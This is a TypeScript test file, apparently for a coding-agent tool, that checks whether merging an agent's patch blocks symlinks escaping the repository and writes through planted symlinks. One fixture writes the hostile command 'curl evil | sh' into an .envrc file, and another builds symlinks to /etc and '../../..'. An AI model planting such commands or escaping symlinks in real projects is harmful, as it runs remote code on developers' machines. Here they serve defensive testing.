import { lstat, mkdir, readdir, readFile, readlink, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createRepo, type FixtureRepo, makeTempDir, readTree, writeFiles } from "@pancode/testing/git";
import { afterEach, describe, expect, it } from "vitest";
import { createTestWorker, dispatchTo } from "./fixtures/workspace.js";
import { mergePatch } from "./merge-patch.js";

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

async function fixture(files: Record<string, string> = { "a.txt": "a\n" }): Promise<FixtureRepo> {
  const repo = await createRepo({ files });
  cleanups.push(repo.cleanup);
  return repo;
}

/** The "agent": `act` edits the run's worktree; returns its patch and merge base. */
async function runAgent(repo: FixtureRepo, act: (worktree: string) => Promise<void>) {
  const w = await createTestWorker();
  cleanups.push(w.cleanup);
  const { snapshot, worktree } = await dispatchTo(w, repo.dir, `run-${Math.random().toString(36).slice(2, 8)}`);
  await act(worktree.path);
  const { patch } = await w.cache.computePatch(worktree);
  return { baseTree: snapshot.stateTree, patch };
}

const present = (path: string) =>
  lstat(path).then(
    () => true,
    () => false,
  );

describe("mergePatch and symlinks", () => {
  it("never creates a symlink that leaves the repository; the rest of the patch is merged", async () => {
    const repo = await fixture();
    const { baseTree, patch } = await runAgent(repo, async (wt) => {
      await symlink("/etc", join(wt, "etc-link"));
      await symlink("../../..", join(wt, "climb"));
      await symlink("src", join(wt, "inside"));
      await writeFiles(wt, { "src/ok.txt": "ok\n" });
    });
    const report = await mergePatch({ repoRoot: repo.dir, baseTree, patch });
    expect(report.outcome).toBe("clean");
    expect(report.files).toContainEqual(expect.objectContaining({ path: "etc-link", status: "skipped" }));
    expect(report.files).toContainEqual(expect.objectContaining({ path: "climb", status: "skipped" }));
    expect(await present(join(repo.dir, "etc-link"))).toBe(false);
    expect(await present(join(repo.dir, "climb"))).toBe(false);
    expect(await readlink(join(repo.dir, "inside"))).toBe("src");
    expect(await readFile(join(repo.dir, "src/ok.txt"), "utf8")).toBe("ok\n");
  });

  it("holds the whole patch back when the review names entries: nothing is written", async () => {
    const repo = await fixture();
    const before = await readTree(repo.dir);
    const { baseTree, patch } = await runAgent(repo, async (wt) => {
      await writeFiles(wt, { ".envrc": "curl evil | sh\n", "b.txt": "b\n" });
      await symlink("/etc", join(wt, "etc-link"));
    });
    const report = await mergePatch({
      repoRoot: repo.dir,
      baseTree,
      patch,
      review: (r) => [
        ...r.files.filter((f) => f.path === ".envrc").map((f) => ({ path: f.path, reason: "protected" })),
        ...r.escapingSymlinks.map((l) => ({ path: l.path, reason: l.reason })),
      ],
    });
    expect(report.outcome).toBe("held");
    expect(report.held).toEqual([
      { path: ".envrc", reason: "protected" },
      { path: "etc-link", reason: "symlink to /etc: absolute target /etc" },
    ]);
    expect(await readTree(repo.dir)).toEqual(before);
    expect(await present(join(repo.dir, "etc-link"))).toBe(false);
  });

  it("never writes through a symlink the developer's checkout has at a path the patch writes under", async () => {
    const repo = await fixture();
    const outside = await makeTempDir("pancode-outside-");
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    // A symlink excluded locally (not in the snapshot): the agent sees no `planted` and creates a directory there.
    await writeFile(join(repo.dir, ".git/info/exclude"), "planted\n");
    await symlink(outside, join(repo.dir, "planted"));
    const { baseTree, patch } = await runAgent(repo, async (wt) => {
      await mkdir(join(wt, "planted"), { recursive: true });
      await writeFiles(wt, { "planted/.bashrc": "evil\n" });
    });
    const report = await mergePatch({ repoRoot: repo.dir, baseTree, patch });
    expect(report.outcome).toBe("conflict");
    expect(report.files[0]?.detail).toMatch(/beyond a symbolic link/);
    expect(await readdir(outside)).toEqual([]);
  });
});
